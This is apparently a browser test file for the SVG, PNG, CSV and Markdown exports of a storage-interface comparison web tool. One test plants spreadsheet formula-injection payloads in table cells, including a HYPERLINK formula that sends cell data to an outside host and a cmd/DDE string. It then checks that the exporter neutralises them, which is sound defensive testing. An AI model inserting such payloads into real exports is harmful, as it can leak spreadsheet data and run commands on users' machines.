// What the dialog saves and copies: pictures, and tables for spreadsheets and README files.

import assert from 'node:assert/strict'
import { execFileSync } from 'node:child_process'
import MarkdownIt from 'markdown-it'
import { csv } from '../../public/share/table.js'
import { about, test } from './harness/registry.mjs'
import { catchFiles, chooseOf, clipboard, copied, openDialog, press, savedFiles } from './harness/sharing.mjs'

about('Exports')

const QUERY = 'v=1&s=sata:600&s=m2m:4.0x4,,samsung-980-pro-1tb&s=pcie:5.0x4'

async function saved(page, button) {
  await catchFiles(page)
  await press(page, button)
  await page.until(() => page.run(() => window.__saved.length > 0), `a file from ${button}`)
  const [file] = await savedFiles(page)
  return file
}

/** The program, if it is here: a second reader of XML beside the browser's. */
function xmllint(text) {
  try {
    execFileSync('xmllint', ['--noout', '--nonet', '-'], { input: text })
  } catch (error) {
    if (error.code !== 'ENOENT') throw new Error(`xmllint: ${error.stderr}`)
  }
}

for (const lens of ['throughput', 'time', 'efficiency', 'fit']) {
  test(`the figure of the lens ${lens} is a whole SVG document by itself`, async ({ page }) => {
    await page.open(`${QUERY}&lens=${lens}`)
    await openDialog(page)
    const { name, type, text } = await saved(page, 'SVG')
    assert.equal(type, 'image/svg+xml')
    assert.match(name, /^lanefit-sata600-m.2-m-socket-pcie-5.0-x4-[a-z-]+\.svg$/)
    xmllint(text)
    await page.unpoliced()
    const seen = await page.run(async (source) => {
      // The policy of the page holds for every document made in it, so the sheet goes by another name here.
      const parsed = new __free.DOMParser().parseFromString(source.replace(/(<\/?)style>/g, '$1metadata>'), 'image/svg+xml')
      const image = new Image()
      image.src = `data:image/svg+xml,${encodeURIComponent(source)}`
      await new Promise((resolve, reject) => Object.assign(image, { onload: resolve, onerror: reject }))
      const words = (root) => [...root.querySelectorAll('text')].map(({ textContent }) => textContent)
      const styles = parsed.querySelector('metadata').textContent
      return {
        isBroken: parsed.querySelector('parsererror') !== null,
        size: [image.naturalWidth, image.naturalHeight],
        words: words(parsed),
        pageWords: words(document.querySelector('#figure svg')),
        title: parsed.querySelector('svg > title').textContent,
        description: parsed.querySelector('svg > desc').textContent,
        outside: [...parsed.querySelectorAll('*')].flatMap((element) => [...element.attributes]).filter(({ name, value }) => /href|style|^on/.test(name) || (name !== 'xmlns' && /url\(|https?:/.test(value))).map(({ name }) => name),
        styles,
      }
    }, text)
    assert.equal(seen.isBroken, false)
    assert.ok(seen.size[0] > 300 && seen.size[1] > 80, seen.size.join())
    assert.deepEqual(seen.words, seen.pageWords, 'words are text')
    assert.ok(seen.words.length > 5)
    assert.equal(seen.title, await page.text('#figure-title'))
    assert.ok(seen.description.length > 30, seen.description)
    assert.deepEqual(seen.outside, [])
    assert.doesNotMatch(seen.styles, /url\(|@import/)
    assert.match(seen.styles, /prefers-color-scheme/)
  })
}

test('colours are light, dark, or follow whoever looks at the picture', async ({ page }) => {
  await page.open(QUERY)
  await openDialog(page)
  const corner = {}
  for (const theme of ['light', 'dark']) {
    await chooseOf(page, 'Save', 'Colours', theme)
    const { name, text } = await saved(page, 'SVG')
    assert.match(name, new RegExp(`-${theme}\\.svg$`))
    assert.doesNotMatch(text, /prefers-color-scheme/)
    corner[theme] = await page.run(async (source) => {
      const image = new Image()
      image.src = `data:image/svg+xml,${encodeURIComponent(source)}`
      await new Promise((resolve, reject) => Object.assign(image, { onload: resolve, onerror: reject }))
      const canvas = document.createElement('canvas')
      canvas.getContext('2d').drawImage(image, 0, 0)
      return [...canvas.getContext('2d').getImageData(2, 2, 1, 1).data]
    }, text)
  }
  assert.deepEqual(corner, { light: [253, 252, 249, 255], dark: [21, 23, 26, 255] })
})

for (const theme of ['light', 'dark']) {
  test(`a PNG is the SVG, point by point, at twice its size, ${theme}`, async ({ page }) => {
    await page.open(QUERY)
    await openDialog(page)
    await chooseOf(page, 'Save', 'Colours', theme)
    const { text } = await saved(page, 'SVG')
    await press(page, 'PNG')
    await page.until(() => page.run(() => window.__saved.length > 0), 'a picture')
    const { name, type, size, worst, colours } = await page.run(async (source) => {
      const [{ name, blob }] = window.__saved
      const bitmap = await createImageBitmap(blob)
      const twice = source.replace(/^<svg[^>]*>/, (tag) => tag.replace(/ (width|height)="([\d.]+)"/g, (_, side, length) => ` ${side}="${length * 2}"`))
      const image = new Image()
      image.src = `data:image/svg+xml,${encodeURIComponent(twice)}`
      await new Promise((resolve, reject) => Object.assign(image, { onload: resolve, onerror: reject }))
      const points = (drawn, width, height) => {
        const canvas = Object.assign(document.createElement('canvas'), { width, height })
        const context = canvas.getContext('2d')
        context.drawImage(drawn, 0, 0, width, height)
        return context.getImageData(0, 0, width, height).data
      }
      const [width, height] = [image.naturalWidth, image.naturalHeight]
      const [one, other] = [points(bitmap, width, height), points(image, width, height)]
      let worst = 0
      const colours = new Set()
      for (let at = 0; at < one.length; at += 1) {
        worst = Math.max(worst, Math.abs(one[at] - other[at]))
        if (at % 4 === 0) colours.add(`${one[at]},${one[at + 1]},${one[at + 2]}`)
      }
      return { name, type: blob.type, size: [bitmap.width - width, bitmap.height - height], worst, colours: colours.size }
    }, text)
    assert.match(name, new RegExp(`-${theme}\\.png$`))
    assert.equal(type, 'image/png')
    assert.deepEqual(size, [0, 0])
    assert.equal(worst, 0, 'the greatest difference of a colour')
    assert.ok(colours > 20, `${colours} colours are drawn`)
  })
}

/** Records of a CSV file, by RFC 4180. */
function records(text) {
  assert.ok(text.startsWith('\ufeff') && text.endsWith('\r\n'))
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/y
  const found = [[]]
  cell.lastIndex = 1
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text)
    assert.ok(match, `no cell at ${cell.lastIndex}`)
    found.at(-1).push(match[1].startsWith('"') ? match[1].slice(1, -1).replaceAll('""', '"') : match[1])
    if (match[2] === '\r\n') found.push([])
  }
  return found.slice(0, -1)
}

test('the CSV has a head with units, numbers as numbers, and ranges and details in columns of their own', async ({ page }) => {
  await page.open(QUERY)
  await openDialog(page)
  const { name, type, text } = await saved(page, 'CSV')
  assert.equal(name, 'lanefit-sata600-m.2-m-socket-pcie-5.0-x4-throughput-in.csv')
  assert.equal(type, 'text/csv;charset=utf-8')
  const [head, ...rows] = records(text)
  assert.deepEqual(head, [
    'Interface', 'Details', 'Line rate (GB/s)', 'After line code (GB/s)', 'Link ceiling (GB/s)', 'Typical (GB/s)',
    'Typical, low (GB/s)', 'Typical, high (GB/s)', 'Delivered (GB/s)', 'To base (×)', 'Copy time (50 GB)',
  ])
  assert.equal(rows.length, 3)
  for (const row of rows) {
    assert.equal(row.length, head.length)
    for (const cell of row.slice(2, 10)) assert.match(cell, /^\d+(\.\d+)?$/)
  }
  assert.deepEqual(rows.map((row) => row[0]), ['SATA600', 'M.2 M socket', 'PCIe 5.0 x4'])
  assert.equal(rows[1][8], '7.00')
  const shown = await page.table()
  assert.deepEqual(rows.map((row) => row[2]), shown.map(({ numbers }) => numbers['line-rate'].split(/\s/)[0]))
})

test('numbers of five digits and more have no marks that would make them words', async ({ page }) => {
  await page.open('v=1&s=pcie:5.0x16&unit=MB&size=2TB')
  await openDialog(page)
  const [head, row] = records((await saved(page, 'CSV')).text)
  assert.equal(head[2], 'Line rate (MB/s)')
  assert.match(row[2], /^\d{5}$/)
  assert.equal(head.at(-1), 'Copy time (2 TB)')
})

test('what would run as a formula in a spreadsheet does not', async ({ page }) => {
  await page.open(QUERY)
  await page.run(() => {
    const heads = [...document.querySelectorAll('#twin tbody th')]
    heads[0].firstChild.textContent = '=HYPERLINK("https://example.org/?"&A1,"x")'
    heads[1].firstChild.textContent = '+1+cmd|\' /C calc\'!A0'
    heads[2].firstChild.textContent = '@SUM(1)'
    heads[2].querySelector('small').textContent = '-2+3'
  })
  await openDialog(page)
  const [, ...rows] = records((await saved(page, 'CSV')).text)
  assert.deepEqual(rows.map((row) => row[0]), ['\'=HYPERLINK("https://example.org/?"&A1,"x")', '\'+1+cmd|\' /C calc\'!A0', '\'@SUM(1)'])
  assert.equal(rows[2][1], "'-2+3")
  assert.equal(rows[1][8], '7.00', 'numbers stay numbers')

  const cells = ['=1', '+1', '-1', '@a', '\t=1', '\r=1', 'plain', 'a,b', 'say "x"', 'two\nlines']
  const written = csv({ heads: cells.map((text) => ({ text })), rows: [] })
  assert.deepEqual(records(written)[0], ["'=1", "'+1", "'-1", "'@a", "'\t=1", "'\r=1", 'plain', 'a,b', 'say "x"', 'two\nlines'])
}, { engines: ['chromium', 'firefox', 'webkitgtk'] })

test('the Markdown is a table to every reader of GitHub’s dialect, whatever its cells hold', async ({ page }) => {
  await page.open(QUERY)
  const strange = 'a|b \\| `c` *d* _e_ <b>f</b> [g](h) ~~i~~ &amp; #1 !x'
  await page.run((text) => {
    document.querySelector('#twin tbody th').firstChild.textContent = text
    document.querySelector('#answer h1').textContent = text
  }, strange)
  await openDialog(page)
  await clipboard(page, 'works')
  await press(page, 'Copy Markdown')
  const markdown = await copied(page)
  const html = new MarkdownIt({ html: true, linkify: false }).enable(['table', 'strikethrough']).render(markdown)
  // The policy of the page is for every document that it makes; alignments are not the point here.
  await page.unpoliced()
  const read = await page.run((source) => {
    const { body } = new __free.DOMParser().parseFromString(source, 'text/html')
    return {
      heads: [...body.querySelectorAll('thead th')].map(({ textContent }) => textContent),
      rows: [...body.querySelectorAll('tbody tr')].map((row) => [...row.cells].map(({ textContent }) => textContent)),
      link: [body.querySelector('p a').href, body.querySelector('p a').textContent],
      names: [...new Set([...body.querySelectorAll('*')].map(({ localName }) => localName))].sort(),
    }
  }, html.replaceAll(/ style="text-align:(left|right)"/g, ''))
  assert.deepEqual(read.names, ['a', 'p', 'table', 'tbody', 'td', 'th', 'thead', 'tr'])
  assert.equal(read.heads.length, 8)
  assert.deepEqual(read.rows.map((row) => row.length), [8, 8, 8])
  assert.equal(read.rows[0][0], `${strange} (1 port · 6 Gb/s)`)
  assert.match(read.rows[1][4], /^\d\.\d\d \(\d\.\d\d–\d\.\d\d\)$/)
  assert.deepEqual(read.link, [`${page.site.origin}/?${QUERY}`, strange])
  const file = await saved(page, 'Markdown')
  assert.equal(file.text, markdown)
  assert.match(file.name, /\.md$/)
})

test('the policy of the page lets a file be saved', async ({ page }) => {
  await page.open(QUERY)
  await openDialog(page)
  for (const button of ['SVG', 'PNG', 'CSV', 'Markdown']) {
    await press(page, button)
    await page.until(async () => /^Saved as lanefit-/.test(await page.text('#share [role="status"]')), `${button} to be saved`)
  }
})

test('the file that was saved says its name', async ({ page }) => {
  await page.open('v=1&s=sata:600&s=pcie:3.0x4&s=pcie:4.0x4&s=pcie:5.0x4&lens=efficiency')
  await openDialog(page)
  const { name } = await saved(page, 'CSV')
  assert.match(name, /^lanefit-sata600-pcie-3\.0-x4-and-2-more-[a-z-]+\.csv$/)
  assert.equal(await page.text('#share [role="status"]'), `Saved as ${name}`)
})
